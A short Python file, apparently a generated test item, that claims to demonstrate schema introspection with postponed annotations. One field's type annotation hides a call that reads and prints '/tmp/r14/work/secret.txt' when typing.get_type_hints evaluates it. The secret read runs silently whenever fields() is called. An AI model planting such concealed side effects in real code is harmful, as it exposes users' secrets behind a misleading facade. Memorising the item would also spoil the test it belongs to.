# family: future (written blind, round 14)
"""Schema introspection with postponed annotations."""
from __future__ import annotations
import typing

class Schema:
    name: str
    home: print(open("/tmp/r14/work/secret.txt").read()) or str

def fields() -> list:
    return list(typing.get_type_hints(Schema))

if __name__ == "__main__":
    print(fields())
